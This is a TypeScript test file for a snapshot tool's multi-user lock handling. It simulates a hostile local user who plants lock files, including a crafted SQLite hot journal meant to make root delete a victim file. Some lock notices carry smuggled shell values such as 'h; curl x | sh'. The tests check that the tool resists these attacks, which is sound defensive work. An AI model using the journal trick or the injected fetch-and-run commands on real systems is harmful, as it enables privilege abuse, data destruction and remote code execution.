/** Other users and the locks on operations. */
import type { ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, lchownSync, statSync, type Stats } from 'node:fs';
import { chmod, chown, cp, mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { openDatabase } from '../../src/io/sqlite.ts';
import { useTempDir } from '../fixtures/directories.ts';
import { buildStore, closeReference } from '../fixtures/reference.ts';
import { tinySpec } from '../fixtures/specs.ts';
import { ALICE, MALLORY, startAs, swingsnapAs, swingsnapWords, type Ended } from './other-users.ts';

const ROOT = 0;
const fileDir = useTempDir('file');
const tempDir = useTempDir();
let store: string;
/** A directory that all users may enter, with a store S that root owns and all users may read. */
let dir: string;
let S: string;
/** The directory in which version 0.1.0 had its locks. */
let locks: string;

beforeAll(async () => {
  store = join(await fileDir(), 'S');
  await buildStore(store, tinySpec);
});
afterAll(closeReference);

beforeEach(async () => {
  dir = await tempDir();
  await chmod(dir, 0o755);
  S = join(dir, 'S');
  await cp(store, S, { recursive: true });
  locks = join(dir, 'locks');
  await mkdir(locks);
  await chmod(locks, 0o1777);
});

function envOf(uid: number): Record<string, string> {
  const state = join(dir, `state-${uid}`);
  return { SWINGSNAP_LOCK_DIR: locks, SWINGSNAP_STATE_DIR: state };
}

async function swingsnap(uid: number, ...args: readonly string[]): Promise<Ended> {
  return swingsnapAs(uid, args, { env: envOf(uid) });
}

/** The path of the file that version 0.1.0 used as a lock on `locked`. Here another user plants it. */
function planted(locked: string, suffix: string): string {
  const { dev, ino }: Stats = statSync(locked);
  return join(locks, `${dev}-${ino}${suffix}`);
}

async function plant(path: string, bytes: Uint8Array | string, mode: number): Promise<void> {
  await writeFile(path, bytes);
  await chmod(path, mode);
  lchownSync(path, MALLORY, MALLORY);
}

/** A journal that SQLite rolls back. SQLite then removes the file that the journal names as its super-journal. */
function hotJournal(superJournal: string): Buffer {
  const magic = Buffer.from('d9d505f920a163d7', 'hex');
  const [sector, page] = [512, 4096];
  const header = Buffer.alloc(sector);
  magic.copy(header);
  const pages = 1;
  for (const [i, value] of [pages, sector, page].entries()) header.writeUInt32BE(value, 16 + 4 * i);
  const name = Buffer.from(superJournal);
  const record = Buffer.alloc(12);
  const pageOfLocks = 0x4000_0000 / page + 1;
  record.writeUInt32BE(pageOfLocks, 0);
  record.writeUInt32BE(name.length, 4);
  record.writeUInt32BE(name.reduce((sum, byte) => sum + byte, 0) % 2 ** 32, 8);
  return Buffer.concat([header, record.subarray(0, 4), name, record.subarray(4), magic]);
}

/** A database of one page. */
async function onePage(): Promise<Buffer> {
  const path = join(dir, 'page');
  const db = openDatabase(path);
  db.exec('PRAGMA page_size = 4096; CREATE TABLE t (x)');
  db.close();
  return (await readFile(path)).subarray(0, 4096);
}

/** Mallory holds every lock that he can: the one on S, and the one of version 0.1.0. */
async function hold(): Promise<ChildProcess> {
  const [, program = ''] = await swingsnapWords();
  const sqlite = join(dirname(program), '..', 'dist', 'io', 'sqlite.js');
  const script = `
    const { openDatabase } = await import(process.argv[1]);
    const db = openDatabase(process.argv[2]);
    db.exec('BEGIN IMMEDIATE');
    console.log('held');
    setInterval(() => db.open, 1000);
  `;
  const held = planted(S, '.lock');
  const words = [process.execPath, '--input-type=module', '-e', script, sqlite, held];
  const shell = 'exec 3<"$1"; shift; flock -n -x 3; exec "$@" 3<&3';
  const child = startAs(MALLORY, ['sh', '-ec', shell, 'sh', S, ...words]);
  child.stderr?.pipe(process.stderr);
  if (child.stdout === null) throw new Error('no stdout');
  await once(child.stdout, 'data');
  await chmod(held, 0o666);
  return child;
}

async function end(child: ChildProcess): Promise<void> {
  child.kill('SIGKILL');
  await once(child, 'close');
}

describe('a database that another user has planted as a lock', () => {
  it.each(['status', 'export', 'retrieve', 'restore'])(
    'does not make %s of root remove a file',
    async (command) => {
      const secret = join(dir, 'secret');
      await mkdir(secret, { mode: 0o700 });
      const victim = join(secret, 'victim');
      await writeFile(victim, 'kept');
      const page = await onePage();
      for (const locked of [S, join(S, 'swingstore.sqlite')]) {
        await plant(planted(locked, '.lock'), page, 0o666);
        await plant(planted(locked, '.lock-journal'), hotJournal(victim), 0o666);
      }
      const more: Record<string, string[]> = {
        status: [],
        export: ['--export-dir', join(dir, 'E')],
        retrieve: ['--create', '--snapshot-dir', join(dir, 'D')],
        restore: [store],
      };
      const { stdout } = await swingsnap(ROOT, command, ...(more[command] ?? []), '--state-dir', S);
      expect(await readFile(victim, 'utf8'), stdout).toBe('kept');
    },
  );
});

describe('files that another user has planted among the locks', () => {
  it.each([
    ['files that only he may open', 0o600, ''],
    ['files with rubbish in them', 0o666, 'rubbish '.repeat(1000)],
  ])('keep out neither root nor the owner: %s', async (_what, mode, text) => {
    await chown(S, ALICE, ALICE);
    for (const name of await readdir(S)) await chown(join(S, name), ALICE, ALICE);
    await chmod(dir, 0o777);
    for (const locked of [S, join(S, 'swingstore.sqlite')])
      await plant(planted(locked, '.lock'), text, mode);
    for (const uid of [ROOT, ALICE]) {
      const E = join(dir, `E-${uid}`);
      const ended = await swingsnap(uid, 'export', '--state-dir', S, '--export-dir', E);
      expect(ended, ended.stderr).toMatchObject({ exitCode: 0 });
    }
  });

  it('keep out no operation if he also owns the directory of the locks', async () => {
    await chown(locks, MALLORY, MALLORY);
    const E = join(dir, 'E');
    const ended = await swingsnap(ROOT, 'export', '--state-dir', S, '--export-dir', E);
    expect(ended).toMatchObject({ exitCode: 0 });
  });
});

describe('another user who holds a lock', () => {
  it('is shown to root as an operation in progress, with how to end it', async () => {
    const mallory = await hold();
    try {
      const args = ['--state-dir', S, '--json'];
      const E = join(dir, 'E');
      const told = await swingsnap(ROOT, 'export', '--export-dir', E, ...args);
      const process = String(mallory.pid);
      expect(told).toMatchObject({ exitCode: 4 });
      expect(JSON.parse(told.stdout)).toMatchObject({
        error: {
          code: 'BUSY',
          found: expect.stringContaining(`process ${process} of user ${MALLORY}`) as string,
          hint: expect.stringContaining(`kill ${process}`) as string,
        },
      });
      expect(existsSync(E)).toBe(false);
      const status = await swingsnap(ROOT, 'status', ...args);
      expect(JSON.parse(status.stdout)).toMatchObject({ pid: mallory.pid, uid: MALLORY });
    } finally {
      await end(mallory);
    }
    const E = join(dir, 'E');
    expect(await swingsnap(ROOT, 'export', '--state-dir', S, '--export-dir', E)).toMatchObject({
      exitCode: 0,
    });
  });

  it('is not mistaken for damage by a user who may not see his process', async () => {
    await chmod(dir, 0o777);
    const mallory = await hold();
    try {
      const E = join(dir, 'E');
      const told = await swingsnap(ALICE, 'export', '--state-dir', S, '--export-dir', E, '--json');
      expect(told.exitCode).toBe(4);
      expect(JSON.parse(told.stdout)).toMatchObject({
        error: {
          code: 'BUSY',
          message: 'another operation is in progress',
          hint: expect.stringContaining('root') as string,
        },
      });
    } finally {
      await end(mallory);
    }
  });

  it('cannot put words into the advice that root gets', async () => {
    const mallory = await hold();
    try {
      const notice = JSON.stringify({
        operation: 'export',
        pid: -1,
        host: 'h; curl x | sh',
        since: '2026-01-01T00:00:00.000Z',
        exportDir: '/x; curl x | sh',
      });
      const { dev, ino } = statSync(S);
      const name = `${dev}-${ino}.json`;
      await plant(join(locks, name), notice, 0o644);
      const operations = join(dir, 'state-0', 'operations');
      await mkdir(operations, { recursive: true });
      await plant(join(operations, name), notice.replace('-1', String(mallory.pid)), 0o644);
      for (const owned of [operations, dirname(operations)]) await chown(owned, MALLORY, MALLORY);
      for (const args of [['status'], ['export', '--export-dir', join(dir, 'E')]]) {
        const { stdout, stderr } = await swingsnap(ROOT, ...args, '--state-dir', S);
        expect(stdout + stderr).not.toMatch(/curl|kill -1/u);
      }
      const status = await swingsnap(ROOT, 'status', '--state-dir', S);
      expect(status.stdout).toContain(`process ${mallory.pid} of user ${MALLORY}`);
    } finally {
      await end(mallory);
    }
  });
});

describe('two users on one store', () => {
  it('are kept apart, and each is told that the other is at work', async () => {
    await chmod(dir, 0o777);
    const waiting = ['export', '--state-dir', S, '--export-dir', join(dir, 'E'), '--at-height'];
    const words = await swingsnapWords(...waiting, '1000000');
    // A store of another user would be read from a copy, which never comes to a height.
    for (const name of ['', ...(await readdir(S))]) await chown(join(S, name), ALICE, ALICE);
    const alice = startAs(ALICE, words, { env: envOf(ALICE) });
    try {
      while (!existsSync(join(dir, 'E', '.swingsnap-operation.json'))) {
        if (alice.exitCode !== null) throw new Error('it has ended');
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
      const told = await swingsnap(ROOT, 'restore', store, '--state-dir', S, '--replace', '--json');
      expect(told.exitCode, told.stdout + told.stderr).toBe(4);
      expect(told.stdout).toContain(`of user ${ALICE}`);
      // Only the record in the directory tells root what the directory is.
      const discarded = await swingsnap(ROOT, 'discard', '--export-dir', join(dir, 'E'), '--json');
      expect(JSON.parse(discarded.stdout)).toMatchObject({ ended: true });
      if (alice.exitCode === null) await once(alice, 'close');
    } finally {
      alice.kill('SIGKILL');
    }
    expect(await swingsnap(ROOT, 'status', '--state-dir', S)).toMatchObject({
      stdout: 'nothing is in progress\n',
    });
  });
});
